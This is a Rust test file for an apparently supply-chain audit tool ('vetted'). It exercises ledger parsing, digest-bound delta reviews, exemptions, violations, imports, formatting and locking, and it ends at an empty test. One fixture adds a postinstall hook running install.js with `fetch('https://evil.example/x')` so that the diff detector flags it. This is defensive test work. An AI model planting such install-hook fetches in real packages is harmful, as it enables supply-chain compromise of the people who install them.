//! Ledger tests: format diagnostics, review (identical, delta chains bound by digests,
//! exemptions, violations, imports), certify, fmt, and concurrent writers.
mod ledger_support;

use ledger_support::{claude, manifest, write};
use std::collections::BTreeSet;
use std::path::Path;
use vetted::clock::FixedClock;
use vetted::content::ContentManifest;
use vetted::digest::{self, Digests};
use vetted::ledger::{
    self, CertifyError, CertifyRequest, CriterionName, FmtStatus, Ledger, LedgerDiagnostics,
    PackageId, ReviewBasis, ReviewOutcome, Severity, Version,
};

const NAME: &str = "@anthropic-ai/claude-code";

fn clock(ts: &str) -> FixedClock {
    FixedClock(ts.parse().expect("test timestamp"))
}

fn safe() -> CriterionName {
    CriterionName::new(ledger::SAFE_TO_RUN).expect("criterion")
}

fn pkg(version: &str) -> PackageId {
    PackageId::parse_spec(&format!("npm:{NAME}@{version}")).expect("spec")
}

fn d(seed: &str) -> Digests {
    Digests::of(seed.as_bytes())
}

/// An `[[audit]]` table for build `seed` of `version`; `extra` lines are appended.
fn audit(version: &str, seed: &str, extra: &str) -> String {
    let d = d(seed);
    format!(
        "[[audit]]\nwho = \"Alice <alice@example.com>\"\nwhen = 2026-11-01\ncriteria = [\"safe-to-run\"]\nname = \"{NAME}\"\nversion = \"{version}\"\nsha512 = \"{}\"\nsha256 = \"{}\"\nmanifest = \"{}\"\n{extra}\n",
        d.sha512.sri(),
        d.sha256,
        digest::sha256(format!("manifest of {seed}").as_bytes()),
    )
}

fn delta(version: &str, seed: &str, from_version: &str, from_seed: &str) -> String {
    audit(
        version,
        seed,
        &format!(
            "kind = \"delta\"\nfrom = {{ version = \"{from_version}\", sha512 = \"{}\" }}",
            d(from_seed).sha512.sri()
        ),
    )
}

fn ledger_dir(text: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    write(dir.path(), "audits.toml", text);
    dir
}

fn load(text: &str) -> (tempfile::TempDir, Result<Ledger, LedgerDiagnostics>) {
    let dir = ledger_dir(text);
    let l = Ledger::load(dir.path());
    (dir, l)
}

fn load_ok(text: &str) -> (tempfile::TempDir, Ledger) {
    let (dir, l) = load(text);
    match l {
        Ok(l) => (dir, l),
        Err(e) => panic!("ledger should load:\n{e}\n---\n{text}"),
    }
}

fn errors(text: &str) -> LedgerDiagnostics {
    match load(text).1 {
        Ok(_) => panic!("ledger should not load:\n{text}"),
        Err(e) => e,
    }
}

fn review(l: &Ledger, version: &str, seed: &str, at: &str) -> ReviewOutcome {
    let m = claude(version, seed).build();
    l.review(&pkg(version), &d(seed), &m, &safe(), &clock(at))
        .expect("review runs")
}

fn basis_versions(o: &ReviewOutcome) -> Vec<String> {
    match o.reviewed().map(|b| b.basis()) {
        Some(ReviewBasis::DeltaChain(c)) => {
            c.iter().map(|a| a.package.version.to_string()).collect()
        }
        Some(ReviewBasis::Identical(a)) => vec![a.package.version.to_string()],
        other => panic!("expected an audit basis, got {other:?} in {o:?}"),
    }
}

// ---------------------------------------------------------------- format diagnostics

/// Each broken ledger yields an error at the given line whose message contains the text.
#[test]
fn every_format_error_is_reported_with_its_line() {
    let base = audit("1.0.0", "a", "");
    let cases: Vec<(&str, String, usize, &str)> = vec![
        (
            "missing who",
            base.replace("who = \"Alice <alice@example.com>\"\n", ""),
            1,
            "has no 'who'",
        ),
        (
            "missing when",
            base.replace("when = 2026-11-01\n", ""),
            1,
            "has no 'when'",
        ),
        (
            "bad when",
            base.replace("2026-11-01", "\"last tuesday\""),
            3,
            "not a date",
        ),
        (
            "missing criteria",
            base.replace("criteria = [\"safe-to-run\"]\n", ""),
            1,
            "has no 'criteria'",
        ),
        (
            "empty criteria",
            base.replace("[\"safe-to-run\"]", "[]"),
            4,
            "'criteria' in audit for",
        ),
        (
            "criteria not an array",
            base.replace("[\"safe-to-run\"]", "\"safe-to-run\""),
            4,
            "must be an array",
        ),
        (
            "undefined criteria",
            base.replace("safe-to-run", "safe-to-fly"),
            4,
            "'safe-to-fly', which is not defined",
        ),
        (
            "missing name",
            base.replace(&format!("name = \"{NAME}\"\n"), ""),
            1,
            "has no 'name'",
        ),
        (
            "missing version",
            base.replace("version = \"1.0.0\"\n", ""),
            1,
            "has no 'version'",
        ),
        (
            "version with space",
            base.replace("\"1.0.0\"", "\"1.0 .0\""),
            6,
            "'version' in audit",
        ),
        (
            "bad sha512",
            base.replace(&d("a").sha512.sri(), "sha512-AAAA"),
            7,
            "not a valid digest",
        ),
        (
            "sha256 in sha512",
            base.replace(&d("a").sha512.sri(), &d("a").sha256.to_string()),
            7,
            "must be a sha512 digest, found a sha256",
        ),
        (
            "missing manifest",
            base.lines()
                .filter(|l| !l.starts_with("manifest"))
                .collect::<Vec<_>>()
                .join("\n"),
            1,
            "has no 'manifest'",
        ),
        (
            "unknown key",
            base.replace("who =", "reviewer = \"x\"\nwho ="),
            2,
            "unknown key 'reviewer'",
        ),
        (
            "bad kind",
            audit("1.0.0", "a", "kind = \"partial\""),
            10,
            "must be \"full\" or \"delta\"",
        ),
        (
            "delta without from",
            audit("1.0.0", "a", "kind = \"delta\""),
            10,
            "has no 'from'",
        ),
        (
            "from without delta",
            audit(
                "1.0.0",
                "a",
                &format!(
                    "from = {{ version = \"0.9.0\", sha512 = \"{}\" }}",
                    d("z").sha512.sri()
                ),
            ),
            10,
            "not a delta audit",
        ),
        (
            "from without sha512",
            audit(
                "1.0.0",
                "a",
                "kind = \"delta\"\nfrom = { version = \"0.9.0\" }",
            ),
            11,
            "has no 'sha512'",
        ),
        (
            "delta to itself",
            delta("1.0.0", "a", "0.9.0", "a"),
            1,
            "starts and ends at the same build",
        ),
        (
            "toml syntax",
            format!("{base}oops = = 1\n"),
            11,
            "invalid TOML",
        ),
        (
            "unknown section",
            format!("{base}[[audits]]\nwho = \"x\"\n"),
            11,
            "unknown key 'audits'",
        ),
        (
            "redefined builtin",
            "[criteria.safe-to-run]\ndescription = \"x\"\n".into(),
            1,
            "is built in",
        ),
        (
            "criteria without description",
            "[criteria.fast]\nimplies = []\n".into(),
            1,
            "has no 'description'",
        ),
        (
            "implies undefined",
            "[criteria.fast]\ndescription = \"x\"\nimplies = [\"slow\"]\n".into(),
            3,
            "'slow', which is not defined",
        ),
        (
            "import without sha256",
            "[imports.acme]\npath = \"acme.toml\"\n".into(),
            1,
            "has no 'sha256'",
        ),
        (
            "import without source",
            format!("[imports.acme]\nsha256 = \"{}\"\n", d("x").sha256),
            1,
            "neither 'path' nor 'url'",
        ),
        (
            "exemption without expires",
            format!(
                "[[exemption]]\nname = \"{NAME}\"\nversion = \"1.0.0\"\nwho = \"A\"\ncriteria = [\"safe-to-run\"]\nsha512 = \"{}\"\n",
                d("a").sha512.sri()
            ),
            1,
            "has no 'expires'",
        ),
        (
            "exemption without sha512",
            format!(
                "[[exemption]]\nname = \"{NAME}\"\nversion = \"1.0.0\"\nwho = \"A\"\ncriteria = [\"safe-to-run\"]\nexpires = 2026-12-01\n"
            ),
            1,
            "has no 'sha512'",
        ),
        (
            "violation with two targets",
            format!(
                "[[violation]]\nname = \"{NAME}\"\nversion = \"1.0.0\"\nsha512 = \"{}\"\nwho = \"A\"\nwhen = 2026-11-01\n",
                d("a").sha512.sri()
            ),
            1,
            "exactly one of",
        ),
        (
            "violation without who",
            format!("[[violation]]\nname = \"{NAME}\"\nversion = \"1.0.0\"\nwhen = 2026-11-01\n"),
            1,
            "has no 'who'",
        ),
    ];
    for (what, text, line, needle) in cases {
        let diags = errors(&text);
        let hit = diags
            .errors()
            .find(|e| e.line == Some(line) && e.message.contains(needle));
        assert!(
            hit.is_some(),
            "{what}: expected an error at line {line} containing {needle:?}, got:\n{}\n--- input:\n{text}",
            diags.render()
        );
        for e in diags.errors() {
            assert!(
                e.line.is_some() && e.column.is_some(),
                "{what}: error without a place: {e}"
            );
            assert!(e.file.ends_with("audits.toml"), "{what}: {e}");
        }
    }
}

#[test]
fn several_errors_are_reported_at_once_compiler_style() {
    let text = format!(
        "# header\n{}{}{}",
        audit("2.1.0", "a", "").replace("who = \"Alice <alice@example.com>\"\n", ""),
        audit("2.1.1", "b", "").replace("safe-to-run", "safe-to-fly"),
        audit("2.1.2", "c", "").replace(&d("c").sha256.to_string(), "sha256:1234"),
    );
    let diags = errors(&text);
    assert_eq!(diags.error_count(), 3, "{}", diags.render());
    let dir_free: Vec<String> = diags
        .items
        .iter()
        .map(|d| {
            let s = d.to_string();
            let file = d.file.display().to_string();
            s.replacen(&file, "ledger/audits.toml", 1)
        })
        .collect();
    let expected = "\
ledger/audits.toml:2:1: error: audit for @anthropic-ai/claude-code@2.1.0 has no 'who'
  hint: every audit names the person who reviewed it: who = \"Name <email>\"
ledger/audits.toml:14:13: error: audit for @anthropic-ai/claude-code@2.1.1 names criteria 'safe-to-fly', which is not defined
  hint: define [criteria.safe-to-fly], or use one of: safe-to-run, verified-origin
ledger/audits.toml:28:10: error: 'sha256' in audit for @anthropic-ai/claude-code@2.1.2 is not a valid digest: sha256 digest must be 32 bytes, got 2
  hint: write sha256:<hex>";
    assert_eq!(dir_free.join("\n"), expected);
}

#[test]
fn a_valid_ledger_loads() {
    let text = format!(
        "[criteria.reviewed-by-two]\ndescription = \"Two people reviewed it.\"\nimplies = [\"safe-to-run\"]\n\n{}{}",
        audit("1.0.0", "a", ""),
        audit("1.0.1", "b", "").replace("[\"safe-to-run\"]", "[\"reviewed-by-two\"]")
    );
    let (_dir, l) = load_ok(&text);
    assert_eq!(l.audits().count(), 2);
    assert_eq!(l.criteria().count(), 3);
    // reviewed-by-two implies safe-to-run implies verified-origin.
    let held: BTreeSet<_> = [CriterionName::new("reviewed-by-two").expect("name")].into();
    assert!(l.satisfies(
        &held,
        &CriterionName::new(ledger::VERIFIED_ORIGIN).expect("name")
    ));
    assert!(!l.satisfies(
        &[safe()].into(),
        &CriterionName::new("reviewed-by-two").expect("name")
    ));
}

// ---------------------------------------------------------------- review

#[test]
fn identical_build_is_reviewed_and_other_bytes_are_not() {
    let (_dir, l) = load_ok(&audit("1.0.0", "a", ""));
    let o = review(&l, "1.0.0", "a", "2026-11-20T00:00:00Z");
    assert!(matches!(o, ReviewOutcome::Identical(_)), "{o:?}");
    // Same version, different bytes: not covered.
    let o = review(&l, "1.0.0", "a-rebuilt", "2026-11-20T00:00:00Z");
    assert!(matches!(o, ReviewOutcome::NeedsReview(_)), "{o:?}");
    // verified-origin is implied by safe-to-run.
    let m = claude("1.0.0", "a").build();
    let vo = CriterionName::new(ledger::VERIFIED_ORIGIN).expect("name");
    let o = l
        .review(
            &pkg("1.0.0"),
            &d("a"),
            &m,
            &vo,
            &clock("2026-11-20T00:00:00Z"),
        )
        .expect("review");
    assert!(matches!(o, ReviewOutcome::Identical(_)), "{o:?}");
}

#[test]
fn review_refuses_a_manifest_of_other_bytes_and_unknown_criteria() {
    let (_dir, l) = load_ok(&audit("1.0.0", "a", ""));
    let m = claude("1.0.0", "other").build();
    let err = l.review(
        &pkg("1.0.0"),
        &d("a"),
        &m,
        &safe(),
        &clock("2026-11-20T00:00:00Z"),
    );
    assert!(
        matches!(err, Err(ledger::ReviewError::ManifestMismatch { .. })),
        "{err:?}"
    );
    let m = claude("1.0.0", "a").build();
    let c = CriterionName::new("nope").expect("name");
    let err = l.review(
        &pkg("1.0.0"),
        &d("a"),
        &m,
        &c,
        &clock("2026-11-20T00:00:00Z"),
    );
    assert!(
        matches!(err, Err(ledger::ReviewError::UnknownCriterion { .. })),
        "{err:?}"
    );
}

#[test]
fn delta_chains_resolve_through_matching_digests_only() {
    let text = format!(
        "{}{}{}",
        audit("1.0.0", "a", ""),
        delta("1.1.0", "b", "1.0.0", "a"),
        delta("1.2.0", "c", "1.1.0", "b"),
    );
    let (_dir, l) = load_ok(&text);
    let o = review(&l, "1.2.0", "c", "2026-11-20T00:00:00Z");
    assert!(matches!(o, ReviewOutcome::CoveredByDelta(_)), "{o:?}");
    assert_eq!(basis_versions(&o), ["1.0.0", "1.1.0", "1.2.0"]);

    // The delta starts from 1.0.0 *with other bytes* than the audited 1.0.0: it covers nothing,
    // and neither does the delta built on it.
    let text = format!(
        "{}{}{}",
        audit("1.0.0", "a", ""),
        delta("1.1.0", "b", "1.0.0", "a-tampered"),
        delta("1.2.0", "c", "1.1.0", "b"),
    );
    let (_dir, l) = load_ok(&text);
    for (v, s) in [("1.1.0", "b"), ("1.2.0", "c")] {
        let o = review(&l, v, s, "2026-11-20T00:00:00Z");
        assert!(matches!(o, ReviewOutcome::NeedsReview(_)), "{v}: {o:?}");
    }

    // Right bytes, wrong version claimed for the base: not covered either.
    let text = format!(
        "{}{}",
        audit("1.0.0", "a", ""),
        delta("1.1.0", "b", "0.9.0", "a")
    );
    let (_dir, l) = load_ok(&text);
    assert!(matches!(
        review(&l, "1.1.0", "b", "2026-11-20T00:00:00Z"),
        ReviewOutcome::NeedsReview(_)
    ));

    // A delta whose base has no audit at all covers nothing.
    let (_dir, l) = load_ok(&delta("1.1.0", "b", "1.0.0", "a"));
    assert!(matches!(
        review(&l, "1.1.0", "b", "2026-11-20T00:00:00Z"),
        ReviewOutcome::NeedsReview(_)
    ));

    // A delta for a weaker criterion does not extend a chain for a stronger one.
    let text = format!(
        "{}{}",
        audit("1.0.0", "a", ""),
        delta("1.1.0", "b", "1.0.0", "a").replace("[\"safe-to-run\"]", "[\"verified-origin\"]")
    );
    let (_dir, l) = load_ok(&text);
    assert!(matches!(
        review(&l, "1.1.0", "b", "2026-11-20T00:00:00Z"),
        ReviewOutcome::NeedsReview(_)
    ));
}

fn exemption(version: &str, seed: &str, expires: &str) -> String {
    format!(
        "[[exemption]]\nname = \"{NAME}\"\nversion = \"{version}\"\nsha512 = \"{}\"\ncriteria = [\"safe-to-run\"]\nwho = \"Bob\"\nexpires = {expires}\n\n",
        d(seed).sha512.sri()
    )
}

#[test]
fn an_expired_exemption_no_longer_admits() {
    let (_dir, l) = load_ok(&exemption("1.0.0", "a", "2026-12-01"));
    let o = review(&l, "1.0.0", "a", "2026-11-30T23:59:59Z");
    assert!(matches!(o, ReviewOutcome::CoveredByExemption(_)), "{o:?}");
    for at in ["2026-12-01T00:00:00Z", "2027-01-01T00:00:00Z"] {
        match review(&l, "1.0.0", "a", at) {
            ReviewOutcome::NeedsReview(n) => assert_eq!(n.expired_exemptions.len(), 1),
            o => panic!("{at}: {o:?}"),
        }
    }
    // An exemption is pinned to bytes.
    let o = review(&l, "1.0.0", "b", "2026-11-01T00:00:00Z");
    assert!(matches!(o, ReviewOutcome::NeedsReview(_)), "{o:?}");
}

#[test]
fn a_violation_overrides_audits_and_exemptions() {
    let by_version = format!(
        "[[violation]]\nname = \"{NAME}\"\nversion = \"1.0.0\"\nwho = \"Sec\"\nwhen = 2026-11-10\nnotes = \"exfiltrates tokens\"\n\n"
    );
    let text = format!(
        "{}{}{by_version}",
        audit("1.0.0", "a", ""),
        exemption("1.0.0", "a", "2027-01-01")
    );
    let (_dir, l) = load_ok(&text);
    match review(&l, "1.0.0", "a", "2026-11-20T00:00:00Z") {
        ReviewOutcome::Revoked(v) => assert_eq!(v.notes.as_deref(), Some("exfiltrates tokens")),
        o => panic!("{o:?}"),
    }
    // By digest: only those bytes are revoked.
    let by_digest = format!(
        "[[violation]]\nname = \"{NAME}\"\nsha512 = \"{}\"\nwho = \"Sec\"\nwhen = 2026-11-10\n\n",
        d("a").sha512.sri()
    );
    let text = format!(
        "{}{}{by_digest}",
        audit("1.0.0", "a", ""),
        audit("1.0.1", "b", "")
    );
    let (_dir, l) = load_ok(&text);
    assert!(matches!(
        review(&l, "1.0.0", "a", "2026-11-20T00:00:00Z"),
        ReviewOutcome::Revoked(_)
    ));
    assert!(matches!(
        review(&l, "1.0.1", "b", "2026-11-20T00:00:00Z"),
        ReviewOutcome::Identical(_)
    ));
    // A revoked build is no base for a delta.
    let text = format!(
        "{}{}{by_digest}",
        audit("1.0.0", "a", ""),
        delta("1.1.0", "c", "1.0.0", "a")
    );
    let (_dir, l) = load_ok(&text);
    assert!(matches!(
        review(&l, "1.1.0", "c", "2026-11-20T00:00:00Z"),
        ReviewOutcome::NeedsReview(_)
    ));
}

// ---------------------------------------------------------------- certify

fn request(m: &ContentManifest, version: &str, delta_from: Option<&str>) -> CertifyRequest {
    CertifyRequest {
        package: pkg(version),
        manifest: m.clone(),
        criteria: [safe()].into(),
        who: "Alice <alice@example.com>".into(),
        notes: Some("read the diff".into()),
        delta_from: delta_from.map(|v| Version::new(v).expect("version")),
        review: None,
    }
}

#[test]
fn certify_then_review_identical_delta_and_needs_review_with_diff() {
    let dir = tempfile::tempdir().expect("tempdir");
    let at = clock("2026-11-20T10:00:00Z");
    let m1 = claude("2.1.0", "one").build();
    let a = ledger::certify(dir.path(), request(&m1, "2.1.0", None), &at).expect("certify");
    // The manifest is stored under its own digest, and the audit names it.
    let stored = ledger::manifest_path(dir.path(), &a.manifest);
    let bytes = std::fs::read(&stored).expect("stored manifest");
    assert_eq!(digest::sha256(&bytes), a.manifest);
    assert_eq!(
        ledger::load_manifest(dir.path(), &a.manifest).expect("load"),
        m1
    );

    let m2 = claude("2.1.1", "two")
        .file(
            "package/install.js",
            b"fetch('https://evil.example/x')",
            0o644,
        )
        .urls("package/install.js", &["https://evil.example/x"])
        .script("postinstall", "node install.js")
        .build();
    let l = Ledger::load(dir.path()).expect("load");
    match l
        .review(&pkg("2.1.1"), &m2.artifact, &m2, &safe(), &at)
        .expect("review")
    {
        ReviewOutcome::NeedsReview(n) => {
            let closest = n.closest.expect("closest");
            assert_eq!(closest.package.version.as_str(), "2.1.0");
            let diff = n.diff.expect("diff from the stored manifest");
            assert_eq!(diff.count(vetted::diff::SignalKind::InstallScriptAdded), 1);
            assert_eq!(diff.count(vetted::diff::SignalKind::UrlAdded), 1);
        }
        o => panic!("{o:?}"),
    }
    let a2 = ledger::certify(dir.path(), request(&m2, "2.1.1", Some("2.1.0")), &at)
        .expect("certify delta");
    assert!(matches!(&a2.kind, ledger::AuditKind::Delta(f) if f.sha512 == m1.artifact.sha512));
    let l = Ledger::load(dir.path()).expect("load");
    let o = l
        .review(&pkg("2.1.1"), &m2.artifact, &m2, &safe(), &at)
        .expect("review");
    assert_eq!(basis_versions(&o), ["2.1.0", "2.1.1"]);
    let o = l
        .review(&pkg("2.1.0"), &m1.artifact, &m1, &safe(), &at)
        .expect("review");
    assert!(matches!(o, ReviewOutcome::Identical(_)), "{o:?}");
    // What certify wrote is canonical.
    assert_eq!(
        ledger::fmt(dir.path(), false).expect("fmt"),
        FmtStatus::Canonical
    );
}

#[test]
fn certify_refuses_what_it_cannot_bind() {
    let dir = tempfile::tempdir().expect("tempdir");
    let at = clock("2026-11-20T10:00:00Z");
    let m = claude("2.1.1", "two").build();
    // No audited base for the delta.
    let e = ledger::certify(dir.path(), request(&m, "2.1.1", Some("2.1.0")), &at);
    assert!(
        matches!(e, Err(CertifyError::NoAuditedBase { .. })),
        "{e:?}"
    );
    // The manifest is of another version.
    let e = ledger::certify(dir.path(), request(&m, "2.1.2", None), &at);
    assert!(
        matches!(e, Err(CertifyError::PackageMismatch { .. })),
        "{e:?}"
    );
    // Unknown criterion.
    let mut r = request(&m, "2.1.1", None);
    r.criteria = [CriterionName::new("safe-to-fly").expect("name")].into();
    assert!(matches!(
        ledger::certify(dir.path(), r, &at),
        Err(CertifyError::UnknownCriterion { .. })
    ));
    // A revoked build cannot be certified.
    write(
        dir.path(),
        "audits.toml",
        &format!(
            "[[violation]]\nname = \"{NAME}\"\nversion = \"2.1.1\"\nwho = \"Sec\"\nwhen = 2026-11-10\n"
        ),
    );
    let e = ledger::certify(dir.path(), request(&m, "2.1.1", None), &at);
    assert!(matches!(e, Err(CertifyError::Revoked { .. })), "{e:?}");
    // An invalid ledger is not written to.
    write(dir.path(), "audits.toml", "[[audit]]\nwho = 1\n");
    let e = ledger::certify(dir.path(), request(&m, "2.1.1", None), &at);
    assert!(matches!(e, Err(CertifyError::Invalid(_))), "{e:?}");
    assert_eq!(
        std::fs::read_to_string(dir.path().join("audits.toml")).expect("read"),
        "[[audit]]\nwho = 1\n"
    );
}

#[test]
fn review_without_a_stored_manifest_says_why_there_is_no_diff() {
    let dir = tempfile::tempdir().expect("tempdir");
    let at = clock("2026-11-20T10:00:00Z");
    let m1 = claude("2.1.0", "one").build();
    let a = ledger::certify(dir.path(), request(&m1, "2.1.0", None), &at).expect("certify");
    // Tamper with the stored manifest: it no longer matches its name.
    let p = ledger::manifest_path(dir.path(), &a.manifest);
    std::fs::write(&p, b"{}").expect("tamper");
    let m2 = claude("2.1.1", "two").build();
    let l = Ledger::load(dir.path()).expect("load");
    match l
        .review(&pkg("2.1.1"), &m2.artifact, &m2, &safe(), &at)
        .expect("review")
    {
        ReviewOutcome::NeedsReview(n) => {
            assert!(n.diff.is_none());
            let why = n.diff_unavailable.expect("reason");
            assert!(why.contains("has been altered"), "{why}");
        }
        o => panic!("{o:?}"),
    }
}

#[test]
fn closest_audited_prefers_the_highest_version_not_above() {
    let text = format!(
        "{}{}{}",
        audit("1.0.0", "a", ""),
        audit("1.2.0", "b", ""),
        audit("2.0.0", "c", "")
    );
    let (_dir, l) = load_ok(&text);
    let v = |s: &str| {
        l.closest_audited(&pkg(s), &safe())
            .map(|b| b.package.version.to_string())
    };
    assert_eq!(v("1.10.0").as_deref(), Some("1.2.0"));
    assert_eq!(v("1.1.9").as_deref(), Some("1.0.0"));
    assert_eq!(v("0.5.0").as_deref(), Some("1.0.0"));
    assert_eq!(v("2.0.1-beta.1").as_deref(), Some("2.0.0"));
    assert_eq!(v("2.0.0-beta.1").as_deref(), Some("1.2.0"));
}

// ---------------------------------------------------------------- imports

#[test]
fn imports_are_pinned_by_digest_and_never_grant_when_mismatched() {
    let imported = format!("{}unknown_top = 1\n", audit("1.0.0", "a", ""));
    let pin = digest::sha256(imported.as_bytes());
    let main = format!(
        "[imports.acme]\npath = \"acme.toml\"\nurl = \"https://acme.example/audits.toml\"\nsha256 = \"{pin}\"\n"
    );
    let dir = ledger_dir(&main);
    write(dir.path(), "acme.toml", &imported);
    let l = Ledger::load(dir.path()).expect("load");
    assert!(matches!(
        review(&l, "1.0.0", "a", "2026-11-20T00:00:00Z"),
        ReviewOutcome::Identical(_)
    ));
    // Problems inside an import are warnings, with their place in the imported file.
    let w: Vec<String> = l.warnings().warnings().map(|d| d.to_string()).collect();
    assert!(
        w.iter()
            .any(|w| w.contains("acme.toml:11:1: warning: unknown key 'unknown_top'")),
        "{w:?}"
    );
    assert!(!l.warnings().has_errors());

    // The imported file changes: ignored with a warning, grants nothing.
    write(dir.path(), "acme.toml", &format!("{imported}# changed\n"));
    let l = Ledger::load(dir.path()).expect("load");
    assert!(matches!(
        review(&l, "1.0.0", "a", "2026-11-20T00:00:00Z"),
        ReviewOutcome::NeedsReview(_)
    ));
    let w = l
        .warnings()
        .items
        .iter()
        .find(|d| d.message.contains("import 'acme' ignored"))
        .expect("warning");
    assert_eq!((w.severity, w.line), (Severity::Warning, Some(1)));

    // A URL import is read from its cached copy only; missing -> ignored with a warning.
    let main =
        format!("[imports.acme]\nurl = \"https://acme.example/audits.toml\"\nsha256 = \"{pin}\"\n");
    let dir = ledger_dir(&main);
    let l = Ledger::load(dir.path()).expect("load");
    assert_eq!(l.audits().count(), 0);
    assert!(
        l.warnings()
            .items
            .iter()
            .any(|d| d.message.contains("import 'acme' ignored"))
    );
    write(dir.path(), "imports/acme.toml", &imported);
    let l = Ledger::load(dir.path()).expect("load");
    assert_eq!(l.audits().count(), 1);
}

#[test]
fn imports_grant_only_builtin_criteria_and_never_exemptions() {
    let imported = format!(
        "[criteria.acme-ok]\ndescription = \"whatever acme means\"\nimplies = [\"safe-to-run\"]\n\n{}{}",
        audit("1.0.0", "a", "").replace("[\"safe-to-run\"]", "[\"acme-ok\"]"),
        exemption("1.0.1", "b", "2099-01-01"),
    );
    let pin = digest::sha256(imported.as_bytes());
    let dir = ledger_dir(&format!(
        "[imports.acme]\npath = \"acme.toml\"\nsha256 = \"{pin}\"\n"
    ));
    write(dir.path(), "acme.toml", &imported);
    let l = Ledger::load(dir.path()).expect("load");
    assert!(matches!(
        review(&l, "1.0.0", "a", "2026-11-20T00:00:00Z"),
        ReviewOutcome::NeedsReview(_)
    ));
    assert!(matches!(
        review(&l, "1.0.1", "b", "2026-11-20T00:00:00Z"),
        ReviewOutcome::NeedsReview(_)
    ));
}

// ---------------------------------------------------------------- fmt

const MESSY: &str = "# EXAMPLE header kept by fmt\n\n[[audit]]\nnotes = \"second\"\nwho = 'Bob'\nwhen = 2026-11-02T10:00:00+01:00\ncriteria = [\"safe-to-run\", \"verified-origin\"]\nname = \"pkg\"\nversion = \"1.10.0\"\nsha512 = \"SHA512\"\nsha256 = \"SHA256\"\nmanifest = \"SHA256\"\n\n[criteria.fast]\nimplies=[ ]\ndescription=\"Fast.\"\n\n[[audit]]\nwho = \"Alice\"\nwhen = 2026-11-01\ncriteria = [\"safe-to-run\"]\nname = \"pkg\"\nversion = \"1.9.0\"\nsha512 = \"SHA512\"\nsha256 = \"SHA256\"\nmanifest = \"SHA256\"\n";

fn messy() -> String {
    let d = d("x");
    MESSY
        .replace("SHA512", &format!("sha512:{}", d.sha512.hex()))
        .replace("SHA256", &d.sha256.to_string())
}

#[test]
fn fmt_round_trips_and_is_stable() {
    let dir = ledger_dir(&messy());
    let before = Ledger::load(dir.path()).expect("load");
    assert_eq!(
        ledger::fmt(dir.path(), true).expect("fmt"),
        FmtStatus::Rewritten
    );
    let text = std::fs::read_to_string(dir.path().join("audits.toml")).expect("read");
    let dx = d("x");
    let expected = format!(
        "# EXAMPLE header kept by fmt\n\n[criteria.fast]\ndescription = \"Fast.\"\nimplies = []\n\n[[audit]]\necosystem = \"npm\"\nname = \"pkg\"\nversion = \"1.9.0\"\nkind = \"full\"\nsha512 = \"{s512}\"\nsha256 = \"{s256}\"\nmanifest = \"{s256}\"\ncriteria = [\"safe-to-run\"]\nwho = \"Alice\"\nwhen = 2026-11-01\n\n[[audit]]\necosystem = \"npm\"\nname = \"pkg\"\nversion = \"1.10.0\"\nkind = \"full\"\nsha512 = \"{s512}\"\nsha256 = \"{s256}\"\nmanifest = \"{s256}\"\ncriteria = [\"safe-to-run\", \"verified-origin\"]\nwho = \"Bob\"\nwhen = 2026-11-02T09:00:00Z\nnotes = \"second\"\n",
        s512 = dx.sha512.sri(),
        s256 = dx.sha256
    );
    assert_eq!(text, expected);
    // Same meaning after formatting.
    let after = Ledger::load(dir.path()).expect("load");
    let strip = |l: &Ledger| {
        let mut v: Vec<_> = l
            .audits()
            .map(|a| {
                (
                    a.package.clone(),
                    a.who.clone(),
                    a.when,
                    a.criteria.clone(),
                    a.sha512.clone(),
                    a.notes.clone(),
                )
            })
            .collect();
        v.sort();
        v
    };
    assert_eq!(strip(&before), strip(&after));
    // Idempotent.
    assert_eq!(
        ledger::fmt(dir.path(), true).expect("fmt"),
        FmtStatus::Canonical
    );
    assert_eq!(
        ledger::fmt(dir.path(), false).expect("fmt"),
        FmtStatus::Canonical
    );
}

#[test]
fn fmt_check_detects_non_canonical_and_writes_nothing() {
    let dir = ledger_dir(&messy());
    assert_eq!(
        ledger::fmt(dir.path(), false).expect("fmt"),
        FmtStatus::NotCanonical
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("audits.toml")).expect("read"),
        messy()
    );
    let dir_arg = dir.path().to_str().expect("utf-8 path");
    let out = vetted::cli::main_from_args(["vetted", "fmt", "--check", "--ledger", dir_arg]);
    assert_eq!(out, vetted::cli::Outcome::Rejected);
    let out = vetted::cli::main_from_args(["vetted", "fmt", "--ledger", dir_arg]);
    assert_eq!(out, vetted::cli::Outcome::Success);
    let out = vetted::cli::main_from_args(["vetted", "fmt", "--check", "--ledger", dir_arg]);
    assert_eq!(out, vetted::cli::Outcome::Success);
    // An invalid ledger is rejected, not rewritten.
    write(dir.path(), "audits.toml", "[[audit]]\n");
    let out = vetted::cli::main_from_args(["vetted", "fmt", "--ledger", dir_arg]);
    assert_eq!(out, vetted::cli::Outcome::Rejected);
    assert_eq!(
        std::fs::read_to_string(dir.path().join("audits.toml")).expect("read"),
        "[[audit]]\n"
    );
}

// ---------------------------------------------------------------- concurrency

#[test]
fn concurrent_writers_are_serialized() {
    let dir = tempfile::tempdir().expect("tempdir");
    let at = clock("2026-11-20T10:00:00Z");
    let n = 8;
    std::thread::scope(|s| {
        for i in 0..n {
            let path = dir.path();
            s.spawn(move || {
                let v = format!("1.0.{i}");
                let m = claude(&v, &format!("seed-{i}")).build();
                ledger::certify(path, request(&m, &v, None), &at).expect("certify");
            });
        }
    });
    let l = Ledger::load(dir.path()).expect("load");
    assert_eq!(l.audits().count(), n, "every writer's audit is kept");
    let manifests = std::fs::read_dir(dir.path().join("manifests"))
        .expect("manifests")
        .count();
    assert_eq!(manifests, n);
    // No temporary files left behind.
    let leftovers: Vec<_> = std::fs::read_dir(dir.path())
        .expect("dir")
        .filter_map(Result::ok)
        .filter(|e| e.file_name().to_string_lossy().starts_with(".tmp-"))
        .collect();
    assert!(leftovers.is_empty());
}

#[test]
fn a_writer_waits_for_the_lock() {
    let dir = tempfile::tempdir().expect("tempdir");
    let at = clock("2026-11-20T10:00:00Z");
    let lock = ledger::LedgerLock::acquire(dir.path()).expect("lock");
    let path = dir.path().to_path_buf();
    let writer = std::thread::spawn(move || {
        let m = claude("1.0.0", "a").build();
        ledger::certify(&path, request(&m, "1.0.0", None), &at).map(|_| ())
    });
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert!(
        !dir.path().join("audits.toml").exists(),
        "certify wrote while the lock was held"
    );
    drop(lock);
    writer.join().expect("join").expect("certify");
    assert!(dir.path().join("audits.toml").exists());
}

#[test]
fn spec_parsing() {
